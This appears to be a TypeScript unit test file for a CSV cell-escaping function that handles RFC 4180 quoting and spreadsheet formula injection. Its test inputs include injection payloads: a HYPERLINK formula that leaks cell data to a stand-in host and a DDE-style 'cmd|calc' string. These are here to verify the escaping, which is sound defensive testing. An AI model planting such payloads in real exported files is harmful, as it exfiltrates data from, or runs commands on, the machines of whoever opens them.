import { describe, expect, it } from 'vitest';
import { csvCell } from '../../src/pipeline/rejections-csv.ts';

describe('csvCell', () => {
  it('quotes what RFC 4180 needs quoted and leaves the rest as it is', () => {
    expect(csvCell('plain text')).toBe('plain text');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell('a=b+c-d@e')).toBe('a=b+c-d@e');
    expect(csvCell('')).toBe('');
  });

  it('a value a spreadsheet would evaluate as a formula is written as text, with a leading apostrophe', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"open")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`,
    );
    expect(csvCell('+1+cmd|calc!A0')).toBe("'+1+cmd|calc!A0");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('a plain signed number stays as it is: it is no formula', () => {
    for (const n of ['-5', '+7', '-0.25', '+1.', '-.5', '-3e5', '+2E-3']) expect(csvCell(n)).toBe(n);
    expect(csvCell('-5 ')).toBe("'-5 ");
    expect(csvCell('-5+1')).toBe("'-5+1");
    expect(csvCell('-')).toBe("'-");
  });
});
